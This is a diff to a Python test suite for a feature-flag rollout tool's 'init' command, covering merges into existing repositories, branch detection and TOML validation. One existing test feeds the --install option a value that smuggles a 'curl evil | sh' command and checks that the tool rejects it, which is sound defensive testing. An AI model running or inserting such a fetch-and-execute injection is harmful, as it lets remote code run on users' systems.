@@ -63,16 +63,87 @@ def test_init_scaffolds_a_repository_that_validates(tmp_path: Path) -> None:
     check_workflows(workflows)
 
 
-def test_init_refuses_to_overwrite_and_writes_nothing(tmp_path: Path) -> None:
-    root = tmp_path / "existing"
-    (root / "rollouts").mkdir(parents=True)
-    (root / "rollouts/new_checkout.yaml").write_text("flag: mine\nstrategy: safe\n")
+SERVICE_PYPROJECT = (
+    '[project]\nname = "checkout-service"\nversion = "1.4.0"\n'
+    'dependencies = ["httpx>=0.27"]\n\n[tool.ruff]\nline-length = 100')  # no final newline
+
+
+def test_init_in_an_existing_service_repository_merges_and_never_overwrites(tmp_path: Path) -> None:
+    """A service repository on `master` with its own pyproject.toml, .gitignore and a plan of
+    the scaffold's name: pyproject.toml gets [tool.rollout] appended (every byte of it kept),
+    .gitignore the missing line, the plan is kept; the workflows trigger on master."""
+    root = tmp_path / "service"
+    root.mkdir()
+    git(root, "init", "-q", "-b", "master")
+    (root / "pyproject.toml").write_text(SERVICE_PYPROJECT)
+    (root / ".gitignore").write_text("__pycache__/\n")
+    (root / "rollouts").mkdir()
+    mine = "flag: new_checkout\nstrategy: safe\nwait: 10m\ngates:\n  error_rate: 2\n"
+    (root / "rollouts/new_checkout.yaml").write_text(mine)
+    git(root, "add", "-A")
+    git(root, "commit", "-q", "-m", "service")
+    out = run_cli(["init"], cwd=root)
+    assert out.returncode == 0, out.stderr
+    text = (root / "pyproject.toml").read_text()
+    assert text.startswith(SERVICE_PYPROJECT + "\n")
+    import tomllib
+
+    doc = tomllib.loads(text)
+    assert doc["project"]["dependencies"] == ["httpx>=0.27"] and doc["tool"]["ruff"]
+    assert doc["tool"]["rollout"]["metrics"]["url_env"] == "PROMETHEUS_URL"
+    assert "merged into pyproject.toml ([tool.rollout] appended)" in out.stdout
+    assert (root / ".gitignore").read_text().startswith("__pycache__/\n")
+    assert "/public/" in (root / ".gitignore").read_text()
+    assert (root / "rollouts/new_checkout.yaml").read_text() == mine
+    assert "kept (exists, not overwritten) rollouts/new_checkout.yaml" in out.stdout
+    assert "created flags/new_checkout.yaml" in out.stdout
+    advance = load_text((root / ".github/workflows/advance.yml").read_text())
+    assert advance["on"]["push"]["branches"] == ["master"]
+    step = next(s for s in advance["jobs"]["advance"]["steps"] if s.get("name") == "Advance")
+    assert set(step["env"]) >= {"PROMETHEUS_URL", "PROMETHEUS_TOKEN"}
+    # the next commands: a git repository already, so no `git init`; push to master
+    assert "git init" not in out.stderr and "git push -u origin master" in out.stderr
+    assert "git remote add origin" in out.stderr  # the service has no remote yet
+    valid = run_cli(["validate"], cwd=root)
+    assert valid.returncode == 0, valid.stdout + valid.stderr
+    check_workflows(sorted((root / ".github/workflows").glob("*.yml")))
+    # again: [tool.rollout] is there, refused with a hint, nothing written
     before = tree(root)
-    out = run_cli(["init", str(root)], cwd=tmp_path)
-    assert out.returncode == 1
-    assert "rollouts/new_checkout.yaml already exists" in out.stderr
+    again = run_cli(["init"], cwd=root)
+    assert again.returncode == 1 and "already has [tool.rollout]" in again.stderr
+    assert "remove the [tool.rollout]" in again.stderr
     assert tree(root) == before
-    assert not (root / "flags").exists() and not (root / "pyproject.toml").exists()
+
+
+def test_init_branch_comes_from_the_remote_and_next_says_git_init_b(tmp_path: Path) -> None:
+    origin = tmp_path / "origin.git"
+    git(tmp_path, "init", "-q", "--bare", "-b", "trunk", str(origin))
+    seed = tmp_path / "seed"
+    git(tmp_path, "init", "-q", "-b", "trunk", str(seed))
+    git(seed, "commit", "-q", "--allow-empty", "-m", "x")
+    git(seed, "push", "-q", str(origin), "trunk")
+    clone = tmp_path / "clone"
+    git(tmp_path, "clone", "-q", str(origin), str(clone))
+    git(clone, "switch", "-q", "-c", "feature")
+    out = run_cli(["init"], cwd=clone)
+    assert out.returncode == 0
+    assert "branches: [trunk]" in (clone / ".github/workflows/advance.yml").read_text()
+    assert "git push -u origin trunk" in out.stderr and "git remote add" not in out.stderr
+    # not a git repository: main, and `git init -b main` (plain `git init` may make master)
+    fresh = tmp_path / "fresh"
+    out = run_cli(["init", str(fresh)], cwd=tmp_path)
+    assert out.returncode == 0
+    assert "branches: [main]" in (fresh / ".github/workflows/advance.yml").read_text()
+    assert "git init -b main" in out.stderr and "git push -u origin main" in out.stderr
+
+
+def test_init_refuses_a_pyproject_that_is_not_toml(tmp_path: Path) -> None:
+    root = tmp_path / "broken"
+    root.mkdir()
+    (root / "pyproject.toml").write_text("[project\n")
+    out = run_cli(["init", str(root)], cwd=tmp_path)
+    assert out.returncode == 1 and "not valid TOML" in out.stderr
+    assert not (root / "flags").exists()
 
 
 def test_init_in_the_current_folder_and_usage_error(tmp_path: Path) -> None:
@@ -81,6 +152,13 @@ def test_init_in_the_current_folder_and_usage_error(tmp_path: Path) -> None:
     (tmp_path / "a-file").write_text("x")
     out = run_cli(["init", "a-file"], cwd=tmp_path)
     assert out.returncode == 2 and "not a folder" in out.stderr
+    out = run_cli(["init", "--branch", "a b", "other"], cwd=tmp_path)
+    assert out.returncode == 2 and "--branch" in out.stderr and not (tmp_path / "other").exists()
+    # a name YAML would misread is written as a quoted string, and GitHub's schema accepts it
+    out = run_cli(["init", "--branch", "release#1", "quoted"], cwd=tmp_path)
+    assert out.returncode == 0, out.stderr
+    doc = load_text((tmp_path / "quoted/.github/workflows/advance.yml").read_text())
+    assert doc["on"]["push"]["branches"] == ["release#1"]
 
 
 def test_pre_commit_hook_of_the_scaffold_is_this_release_and_rejects_a_bad_flag(
@@ -145,3 +223,25 @@ def test_init_install_names_where_the_workflows_get_rollout_runner(tmp_path: Pat
     out = run_cli(["init", "--install", 'x"; curl evil | sh; "', str(bad)], cwd=tmp_path)
     assert out.returncode == 2 and "--install" in out.stderr
     assert not bad.exists()
+
+
+def test_metrics_docs_show_the_scaffolds_prometheus_source_and_file_is_an_option(
+        tmp_path: Path) -> None:
+    """docs/metrics.md's first path is, table for table, what `rollout init` writes; and
+    `--metrics file` scaffolds the file source, which validates too."""
+    import re
+    import tomllib
+
+    doc = (PROJECT / "docs/metrics.md").read_text(encoding="utf-8")
+    section = doc.split("## Metrics where the runner runs", 1)[1]
+    block = re.search(r"```toml\n(.*?)```", section, re.S)
+    assert block
+    scaffolded = tomllib.loads((PROJECT / "runner/templates/init/pyproject.toml").read_text())
+    assert tomllib.loads(block[1])["tool"]["rollout"]["metrics"] == \
+        scaffolded["tool"]["rollout"]["metrics"]
+    root = tmp_path / "files"
+    out = run_cli(["init", "--metrics", "file", str(root)], cwd=tmp_path)
+    assert out.returncode == 0, out.stderr
+    config = tomllib.loads((root / "pyproject.toml").read_text())
+    assert config["tool"]["rollout"]["metrics"] == {"type": "file", "path": "metrics/{{ flag }}.json"}
+    assert run_cli(["validate"], cwd=root).returncode == 0
